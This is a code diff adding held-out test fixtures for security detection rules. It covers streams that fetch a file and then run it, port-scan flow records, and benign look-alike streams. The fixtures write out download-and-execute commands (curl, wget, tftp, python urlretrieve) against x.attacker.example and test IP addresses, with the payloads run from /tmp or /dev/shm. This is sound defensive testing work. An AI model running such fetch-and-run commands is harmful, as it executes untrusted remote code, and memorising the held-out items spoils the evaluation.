@@ -179,6 +179,37 @@ def looking_ordinary() -> Iterator[Stream]:
         yield [many(3 + at, "40s", proc("python3", f"python3 job{at}.py", "cron", host=f"c{at}"))]
 
 
+def _fetched(fetch: str, run: str, pause: int, host: str, other: str = "") -> Stream:
+    name, path = fetch.split()[0], run.split()[0]
+    return [
+        {"time": "2099-09-01T12:00:00Z", "fields": proc(name, fetch, "bash", host=host)},
+        {
+            "time": f"2099-09-01T12:{pause // 60:02}:{pause % 60:02}Z",
+            "fields": proc(path.rsplit("/", 1)[-1], run, "bash", path=path, host=other or host),
+        },
+    ]
+
+
+def fetched() -> Iterator[Stream]:
+    yield _fetched("curl -fsSL -o /tmp/.d https://203.0.113.7:8443/d", "/tmp/.d -q", 2, "m1")
+    yield _fetched("wget http://x.attacker.example/a.out -P /var/tmp", "/var/tmp/a.out", 30, "m2")
+    yield _fetched("tftp tftp://198.51.100.4/bot", "/dev/shm/bot", 5, "m3")
+    yield _fetched("python3 -c import_urllib;urlretrieve('http://203.0.113.7/k','/tmp/k')", "/tmp/k", 1, "m4")
+    yield _fetched("scp up@198.51.100.4:/x /tmp/x", "/tmp/x", 10, "m5")  # no URL
+    yield _fetched("curl -o /tmp/late http://203.0.113.7/late", "/tmp/late", 3_000, "m6")  # much later
+
+
+def fetched_ordinary() -> Iterator[Stream]:
+    for at in range(8):
+        yield _fetched(f"curl -s https://api.example/{at}", "/usr/bin/jq .", 2, f"n{at}")
+    for at in range(6):
+        yield _fetched("gcc -o /tmp/t t.c", "/tmp/t", 1, f"o{at}")
+    for at in range(4):
+        yield _fetched("wget https://downloads.example/tool.deb", "/usr/bin/dpkg -i tool.deb", 20, f"p{at}")
+    for at in range(4):
+        yield _fetched("curl -o /tmp/data https://lists.example/d", "/tmp/unit-test", 5, f"q{at}", f"r{at}")
+
+
 # --- DNS -----------------------------------------------------------------------------------------------------------
 
 
@@ -319,6 +350,35 @@ def cloud_streams() -> Iterator[Stream]:
         yield [many(2 + at, "20s", refused)]
 
 
+# --- flows ---------------------------------------------------------------------------------------------------------
+
+
+def flow(source: str, port: str, action: str = "REJECT", to: str = "192.0.2.8", **more: str) -> Fields:
+    return {
+        "source.address": source, "destination.address": to, "destination.port": port, "network.protocol": "6",
+        "action": action, "packets": "1", "bytes": "44", "direction": "ingress",
+    } | more  # fmt: skip
+
+
+def scanning() -> Iterator[Stream]:
+    yield [many(200, "1s", flow("203.0.113.88", "3{n}"))]
+    yield [many(30, "1s", flow("203.0.113.89", "1{n}"))]
+    yield [many(60, "3s", flow("198.51.100.88", "{n}"))]
+    yield [many(25, "4s", flow("198.51.100.89", "80{n}"))]
+    yield [many(100, "1s", flow("203.0.113.90", "2{n}", "ACCEPT"))]  # a network that refuses nothing
+    yield [many(50, "5m", flow("203.0.113.91", "2{n}"))]  # over hours
+
+
+def flows() -> Iterator[Stream]:
+    for at, port in enumerate(("443", "22", "25", "3306", "8443", "5060")):
+        yield [many(50, "1s", flow(f"192.0.2.{100 + at}", port))]
+        yield [many(60, "1s", flow(f"192.0.2.{110 + at}", port, "ACCEPT"))]
+    for at in range(4):
+        yield [many(2 + at, "4s", flow(f"192.0.2.{120 + at}", "900{n}"))]
+    for at in range(5):
+        yield [many(40, "1s", flow("192.0.2.8", "5{n}", "ACCEPT", to=f"192.0.2.{130 + at}", direction="egress"))]
+
+
 # --- logins --------------------------------------------------------------------------------------------------------
 
 
@@ -386,6 +446,8 @@ HELD_OUT: dict[str, tuple[Callable[[], Iterator[Stream]], list[Stream]]] = {
     "EV-PROC-SHELL-OF-WEB-WORKER": (web_worker, [*PROCESS_ORDINARY, *web_worker_ordinary()]),
     "EV-PROC-PIPE-TO-SHELL": (pipe, [*PROCESS_ORDINARY, *pipe_ordinary()]),
     "EV-PROC-LOOKING-AROUND": (looking, list(looking_ordinary())),
+    "EV-PROC-FETCHED-THEN-RUN": (fetched, list(fetched_ordinary())),
+    "EV-FLOW-PORT-SCAN": (scanning, list(flows())),
     "EV-DNS-TUNNEL": (tunnel, list(dns_streams())),
     "EV-DNS-MADE-UP-DOMAINS": (made_up, list(dns_streams())),
     "EV-DNS-ONE-DOMAIN": (one_domain, list(one_domain_ordinary())),
